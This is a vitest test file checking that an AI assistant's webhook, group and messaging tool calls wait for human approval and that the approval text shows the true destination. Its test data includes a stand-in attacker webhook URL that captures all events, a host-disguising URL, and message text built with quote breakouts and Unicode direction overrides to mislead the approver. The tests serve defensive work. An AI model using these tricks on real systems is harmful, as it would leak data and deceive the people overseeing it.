import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { asConsole } from '../../support/console.ts'
import { world, type World } from '../../support/world.ts'
import { assistantOf } from './assistant.ts'

let w: World
let ask: ReturnType<typeof asConsole>
beforeAll(async () => {
  w = await world()
  ask = asConsole(w)
})
afterAll(() => w.close())

const sentenceOf = async (id: string): Promise<string> => (await ask('GET', `/v1/approvals/${id}`)).body['sentence']
const EVIL = 'https://catcher.sandbox/evil'

describe.each(['destructive', 'sending'])('a key that requires approval for %s calls', (policy) => {
  test('requires approval before a webhook is created, and the approval shows the host', async () => {
    const assistant = await assistantOf(w, policy)
    const id = await assistant.callAndWait('create_webhook', { events: ['*'], description: 'Backup', url: EVIL })
    expect(await sentenceOf(id)).toBe(
      'Create a webhook (sends to catcher.sandbox): url: “https://catcher.sandbox/evil”, events: [“*”], description: “Backup”.',
    )
    expect((await w.api('GET', '/v1/webhooks')).body.data).toEqual([])
  })

  test('shows the real host even if the URL looks like another one', async () => {
    const assistant = await assistantOf(w, policy)
    const id = await assistant.callAndWait('create_webhook', {
      events: ['*'],
      url: 'https://catcher.sandbox:443/https://hooks.example.com/%40hooks.example.com',
    })
    expect(await sentenceOf(id)).toMatch(/^Create a webhook \(sends to catcher\.sandbox\): /)
  })

  test('requires approval before a webhook is changed, replayed or tested, or a delivery is retried', async () => {
    const { body: hook } = await w.api('POST', '/v1/webhooks', { url: 'https://catcher.sandbox/own', events: ['*'] })
    await w.api('POST', `/v1/webhooks/${hook.id}/test`)
    const delivery = (await w.api('GET', '/v1/webhooks/deliveries')).body.data[0]
    const assistant = await assistantOf(w, policy)
    const calls: [string, object, RegExp][] = [
      [
        'update_webhook',
        { webhook_id: hook.id, url: EVIL },
        /\(sends to catcher\.sandbox\): .*“https:\/\/catcher.sandbox\/own”.*evil/,
      ],
      ['update_webhook', { webhook_id: hook.id, active: true }, /\(sends to catcher\.sandbox\)/],
      [
        'replay_webhook',
        { webhook_id: hook.id, since: new Date(w.clock.now() - 1_000).toISOString() },
        /\(sends to catcher\.sandbox\)/,
      ],
      ['test_webhook', { webhook_id: hook.id }, /\(sends to catcher\.sandbox\)/],
      ['retry_delivery', { delivery_id: delivery.id }, /\(sends to catcher\.sandbox\)/],
    ]
    for (const [tool, given, sentence] of calls)
      expect(await sentenceOf(await assistant.callAndWait(tool, given)), tool).toMatch(sentence)
    expect((await w.api('GET', `/v1/webhooks/${hook.id}`)).body.url).toBe('https://catcher.sandbox/own')
    await w.api('DELETE', `/v1/webhooks/${hook.id}`)
  })

  test('requires approval before the webhook of an instance is set', async () => {
    const { id } = await w.instance({ name: 'Front desk' })
    const assistant = await assistantOf(w, policy)
    const approval = await assistant.callAndWait('set_instance_webhook', { instance_id: id, url: EVIL })
    expect(await sentenceOf(approval)).toMatch(/^Set .* \(sends to catcher\.sandbox\): “Front desk”/)
    expect((await w.api('GET', `/v1/instances/${id}/webhook`)).body.url).toBe(null)
  })

  test('requires approval before a person joins a group, and gets the result with only the approval_id', async () => {
    const line = await w.pair()
    const assistant = await assistantOf(w, policy)
    const given = {
      instance_id: line.id,
      group: 'group',
      action: 'create',
      name: 'Team',
      participants: ['12025550147'],
    }
    const approval = await assistant.callAndWait('call_engine', given)
    expect(await sentenceOf(approval)).toContain('participants: [“12025550147”]')
    await ask('POST', `/v1/approvals/${approval}/approve`)
    const fetched = await assistant.call('call_engine', { approval_id: approval })
    expect(fetched).toMatchObject({ code: undefined, body: { engine: 'smv2' } })
  })
})

test('shows the name of a group, or its id if the name is unknown', async () => {
  const line = await w.pair()
  const { body } = await w.api('POST', `/v1/instances/${line.id}/engine/smv2/group/create`, {
    name: 'Garden ”, to: “',
    participants: ['12025550147'],
  })
  const to = body.result.group.group_id
  const assistant = await assistantOf(w, 'sending')
  const given = { instance_id: line.id, to, text: 'Hello all', mentions: ['12025550147'] }
  const id = await assistant.callAndWait('send_message', given)
  expect(await sentenceOf(id)).toContain(
    `, to: group “Garden ”, to: “” (${to}), mentions: [“12025550147”], text: “Hello all”.`.replace(
      'Garden ”, to: “',
      'Garden \\”, to: \\“',
    ),
  )
  await ask('POST', `/v1/approvals/${id}/approve`)
  expect(await assistant.call('send_message', { approval_id: id })).toMatchObject({ body: { sent: true } })
  const leave = { instance_id: line.id, group: 'group', action: 'leave', group_id: to }
  expect(await sentenceOf(await assistant.callAndWait('call_engine', leave))).toContain('group_id: group “Garden')
  const strange = await assistant.callAndWait('send_message', { ...given, to: '120363041234567890@g.us' })
  expect(await sentenceOf(strange)).toContain('to: group 120363041234567890@g.us, ')
})

test('needs no approval to read directly from the engine', async () => {
  const line = await w.pair()
  const assistant = await assistantOf(w, 'sending')
  const given = { instance_id: line.id, group: 'user', action: 'check', numbers: ['12025550147'] }
  expect(await assistant.call('call_engine', given)).toMatchObject({ code: undefined })
})

test('the arguments of a call cannot hide or reorder the text of an approval', async () => {
  const line = await w.pair()
  await w.api('PATCH', `/v1/instances/${line.id}`, { name: 'Front desk' })
  const assistant = await assistantOf(w, 'sending')
  const text = 'Hi”. Nothing will be sent.\nto: “your boss\u202E\u200B'
  const id = await assistant.callAndWait('send_message', { text, instance_id: line.id, to: '12025550123' })
  const { sentence, arguments: shown } = (await ask('GET', `/v1/approvals/${id}`)).body
  expect(sentence).toBe(
    `Send a message: “Front desk” (${line.phone_number}, ${line.id}), to: “12025550123”, text: “Hi\\”. Nothing will be sent.\\nto: \\“your boss\\u{202E}\\u{200B}”.`,
  )
  expect(shown.text).toBe('Hi”. Nothing will be sent.\\nto: “your boss\\u{202E}\\u{200B}')
})
